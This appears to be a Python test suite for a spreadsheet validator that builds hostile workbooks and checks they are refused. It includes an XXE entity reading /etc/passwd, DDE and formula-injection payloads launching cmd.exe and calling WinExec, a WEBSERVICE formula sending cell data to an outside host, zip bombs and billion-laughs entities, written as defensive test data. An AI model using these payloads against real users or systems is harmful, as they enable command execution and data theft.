"""Opening untrusted files: what they really are, zip bombs, XML bombs, macros, links, DDE, and the
input file never written. Real files made by real writers (openpyxl, xlwt, msoffcrypto)."""

from __future__ import annotations

import hashlib
import os
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from defusedxml import EntitiesForbidden

from tests import hostile
from validator.limits import DEFAULT_LIMITS
from validator.pipeline import validate_file
from validator.safe_open import assert_defused, open_untrusted
from validator.sniff import sniff


def _codes(outcome) -> list[str]:
    """Codes of the findings, less 'template-unknown' (these workbooks are plain, not our template)."""
    return [f.code for f in outcome.findings if f.code != "template-unknown"]


def _write(tmp_path, name: str, data: bytes):
    p = tmp_path / name
    p.write_bytes(data)
    return p


@pytest.mark.parametrize(("make", "kind"), [
    (lambda: b"", "empty"),
    (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf"),
    (hostile.legacy_xls, "xls"),
    (lambda: hostile.encrypted(hostile.simple_workbook()), "encrypted"),
    (hostile.fake_xlsb, "xlsb"),
    (hostile.ods, "ods"),
    (hostile.simple_workbook, "xlsx"),
    (lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "image"),
    (lambda: "矿山,产量\n金源,100\n".encode("gb18030"), "text"),
    (lambda: b"<html><body><table></table></body></html>", "html"),
    (lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', "xml2003"),
    (lambda: bytes(range(256)) * 4, "unknown"),
])
def test_sniff_names_the_real_content(make, kind):
    assert sniff(make()).id == kind


@pytest.mark.parametrize(("name", "make", "code"), [
    ("empty.xlsx", lambda: b"", "file-empty"),
    ("scan.xlsx", lambda: b"%PDF-1.7\n1 0 obj", "file-not-workbook"),
    ("old.xlsx", hostile.legacy_xls, "file-legacy-xls"),
    ("locked.xlsx", lambda: hostile.encrypted(hostile.simple_workbook()), "file-encrypted"),
    ("binary.xlsb", hostile.fake_xlsb, "file-xlsb"),
    ("calc.xlsx", hostile.ods, "file-not-workbook"),
    ("truncated.xlsx", lambda: hostile.simple_workbook()[:700], "file-corrupt"),
    ("noworkbook.xlsx", lambda: hostile.rewrite(hostile.simple_workbook(), remove={"xl/workbook.xml"}), "file-not-workbook"),
    ("badxml.xlsx", lambda: hostile.rewrite(hostile.simple_workbook(), replace={"xl/workbook.xml": b"<workbook"}),
     "file-corrupt"),
])
def test_a_file_that_is_not_a_readable_workbook_gets_one_clear_error(tmp_path, name, make, code):
    out = validate_file(_write(tmp_path, name, make()))
    errors = [f for f in out.findings if f.severity == "error" and f.code != "template-unknown"]
    assert [f.code for f in errors] == [code]
    assert errors[0].file.endswith(name) and errors[0].message_zh and errors[0].message_en and errors[0].hint_en


def test_a_missing_file_is_unreadable_not_a_traceback(tmp_path):
    assert _codes(validate_file(tmp_path / "gone.xlsx")) == ["file-unreadable"]


def test_openpyxl_parses_through_defusedxml():
    assert_defused()
    from openpyxl.xml import functions

    assert functions.iterparse.__module__.startswith("defusedxml")
    with pytest.raises(EntitiesForbidden):
        list(functions.iterparse(__import__("io").BytesIO(hostile.BILLION_LAUGHS)))


@pytest.mark.parametrize("part", ["sheet", "xl/styles.xml", "xl/workbook.xml", "[Content_Types].xml"])
def test_billion_laughs_is_refused_in_any_part(tmp_path, part):
    good = hostile.simple_workbook()
    part = hostile.sheet_part(good) if part == "sheet" else part
    data = hostile.rewrite(good, replace={part: hostile.with_dtd(hostile.member(good, part))})
    out = validate_file(_write(tmp_path, "laughs.xlsx", data))
    assert _codes(out) == ["xml-forbidden"] and out.findings[0].loc == part


def test_external_entity_in_a_sheet_is_refused(tmp_path):
    good = hostile.simple_workbook()
    part = hostile.sheet_part(good)
    xxe = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    data = hostile.rewrite(good, replace={part: hostile.with_dtd(hostile.member(good, part), xxe, use=b"&xxe;")})
    out = validate_file(_write(tmp_path, "xxe.xlsx", data))
    assert _codes(out) == ["xml-forbidden"]
    assert "root:" not in str(out.findings)


@pytest.mark.parametrize("part", ["sheet", "xl/styles.xml"])
def test_an_entity_hidden_past_the_prescan_is_still_refused_by_defusedxml(tmp_path, part):
    """A DOCTYPE pushed beyond the prescanned head by a long comment reaches openpyxl, whose
    defusedxml parsers (iterparse for sheets, fromstring for styles) refuse the entities."""
    good = hostile.simple_workbook()
    part = hostile.sheet_part(good) if part == "sheet" else part
    data = hostile.rewrite(good, replace={part: hostile.with_dtd(hostile.member(good, part), padding=20000)})
    out = validate_file(_write(tmp_path, "hidden.xlsx", data))
    assert _codes(out) == ["xml-forbidden"]


def test_zip_bomb_by_compression_ratio(tmp_path):
    data = hostile.rewrite(hostile.simple_workbook(), add={"xl/media/image1.png": hostile.zip_bomb_member(20 * 2**20)})
    out = validate_file(_write(tmp_path, "bomb.xlsx", data))
    assert _codes(out) == ["zip-bomb"] and "ratio" in out.findings[0].message_en


def test_zip_bomb_by_total_size_and_member_count(tmp_path):
    data = hostile.rewrite(hostile.simple_workbook(), add={"xl/media/a.bin": os.urandom(300_000)})
    small = replace(DEFAULT_LIMITS, max_uncompressed_bytes=200_000)
    assert _codes(validate_file(_write(tmp_path, "big.xlsx", data), small)) == ["zip-bomb"]
    many = hostile.rewrite(hostile.simple_workbook(), add={f"xl/media/{i}.bin": b"x" for i in range(60)})
    assert _codes(validate_file(_write(tmp_path, "many.xlsx", many), replace(DEFAULT_LIMITS, max_members=50))) == ["zip-bomb"]


def test_file_size_limit_is_checked_before_reading(tmp_path):
    out = validate_file(_write(tmp_path, "a.xlsx", hostile.simple_workbook()), replace(DEFAULT_LIMITS, max_file_bytes=1000))
    assert _codes(out) == ["file-too-large"]


def test_declared_sheet_dimension_beyond_the_limits(tmp_path):
    """A part large enough to hold the rows its dimension declares is refused on the claim."""
    good = hostile.simple_workbook()
    part = hostile.sheet_part(good)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(2, 3001))
    xml = hostile.with_dimension(hostile.member(good, part), "A1:C3000").replace(b"</sheetData>", rows + b"</sheetData>")
    out = validate_file(_write(tmp_path, "long.xlsx", hostile.rewrite(good, replace={part: xml})),
                        replace(DEFAULT_LIMITS, max_rows=1000))
    assert _codes(out) == ["sheet-too-large"] and out.findings[0].loc == "Data!A1:C3000"


@pytest.mark.parametrize("ref", ["A1:XFD1048576", "A1:C900000"])
def test_a_declared_dimension_the_sheet_cannot_hold_is_not_refused(tmp_path, ref):
    """LibreOffice declares A1:O1048576 after a row is deleted (F3): the real extent counts."""
    good = hostile.simple_workbook()
    part = hostile.sheet_part(good)
    data = hostile.rewrite(good, replace={part: hostile.with_dimension(hostile.member(good, part), ref)})
    out = validate_file(_write(tmp_path, "wide.xlsx", data))
    assert _codes(out) == []  # only template-unknown: a plain workbook, read in full


def test_cells_beyond_the_limits_without_a_dimension(tmp_path):
    good = hostile.simple_workbook()
    part = hostile.sheet_part(good)
    xml = hostile.member(good, part)
    xml = xml.replace(b"</sheetData>", b'<row r="500000"><c r="A500000"><v>1</v></c></row></sheetData>')
    xml = xml.replace(b'<dimension ref="A1:C1"/>', b"")
    out = validate_file(_write(tmp_path, "deep.xlsx", hostile.rewrite(good, replace={part: xml})))
    assert _codes(out) == ["sheet-too-large"]


def test_macros_are_reported_and_the_extension_checked(tmp_path):
    data = hostile.rewrite(hostile.simple_workbook(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not run"})
    as_xlsx = validate_file(_write(tmp_path, "m.xlsx", data))
    assert sorted(_codes(as_xlsx)) == ["file-extension", "macros-present"]
    assert [f.loc for f in as_xlsx.findings if f.code == "macros-present"] == ["xl/vbaProject.bin"]
    assert _codes(validate_file(_write(tmp_path, "m.xlsm", data))) == ["macros-present"]


def test_excel4_macro_sheets_are_reported(tmp_path):
    data = hostile.rewrite(hostile.simple_workbook(), add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    out = validate_file(_write(tmp_path, "xlm.xlsx", data))
    assert _codes(out) == ["macros-present"] and "XLM" in out.findings[0].message_en


def test_external_workbook_link_and_dde_link_parts(tmp_path):
    good = hostile.simple_workbook()
    ext = validate_file(_write(tmp_path, "ext.xlsx", hostile.with_external_link(good, hostile.EXTERNAL_BOOK,
                                                                             hostile.EXTERNAL_LINK_RELS)))
    assert _codes(ext) == ["external-link"] and "other.xlsx" in ext.findings[0].message_en
    dde = validate_file(_write(tmp_path, "dde.xlsx", hostile.with_external_link(good, hostile.DDE_LINK)))
    assert _codes(dde) == ["dde-link"] and "cmd|" in dde.findings[0].message_en


@pytest.mark.parametrize(("formula", "code"), [
    ("=cmd|' /C calc'!A0", "dde-link"),
    ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "dde-link"),
    ("=SUM(1,2)+cmd|'/c notepad'!A1", "dde-link"),
    ("=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "dde-link"),
    ("=WEBSERVICE(\"http://example.invalid/\"&A1)", "external-link"),
    ("=[1]Sheet1!A1*2", "external-link"),
])
def test_formulas_that_reach_outside_are_reported(tmp_path, formula, code):
    out = validate_file(_write(tmp_path, "f.xlsx", hostile.simple_workbook({"A1": 1, "D4": formula})))
    assert [(f.code, f.loc) for f in out.findings if f.code != "template-unknown"] == [(code, "Data!D4")]


@pytest.mark.parametrize("formula", ['="a|b"&A1', "=IF(A1>0,A1,0)", "=SUM(A1:A3)", '="[1]"&A1'])
def test_ordinary_formulas_are_not_reported(tmp_path, formula):
    assert _codes(validate_file(_write(tmp_path, "ok.xlsx", hostile.simple_workbook({"A1": 1, "B2": formula})))) == []


def test_the_input_file_is_never_written(tmp_path):
    """Checksums and mtimes before and after, for good and hostile files; read-only files open too."""
    files = {
        "good.xlsx": hostile.simple_workbook(),
        "dde.xlsx": hostile.simple_workbook({"A1": "=cmd|' /C calc'!A0"}),
        "macro.xlsm": hostile.rewrite(hostile.simple_workbook(), add={"xl/vbaProject.bin": b"vba"}),
        "laughs.xlsx": hostile.rewrite(hostile.simple_workbook(), replace={
            "xl/styles.xml": hostile.with_dtd(hostile.member(hostile.simple_workbook(), "xl/styles.xml"))}),
    }
    for name, data in files.items():
        p = _write(tmp_path, name, data)
        p.chmod(0o444)
        before = (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns, p.stat().st_size)
        out = validate_file(p)
        after = (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns, p.stat().st_size)
        assert before == after, name
        assert out.sha256 == before[0]
    assert sorted(x.name for x in tmp_path.iterdir()) == sorted(files)  # no lock or temp file left


def test_opened_bytes_are_the_files(tmp_path):
    p = _write(tmp_path, "a.xlsx", hostile.simple_workbook())
    opened = open_untrusted(p)
    assert opened.loadable and opened.data == p.read_bytes() and opened.package.sheets == {"Data": "xl/worksheets/sheet1.xml"}
    assert zipfile.is_zipfile(p) and openpyxl.load_workbook(p, read_only=True)["Data"]["B1"].value == 1.5
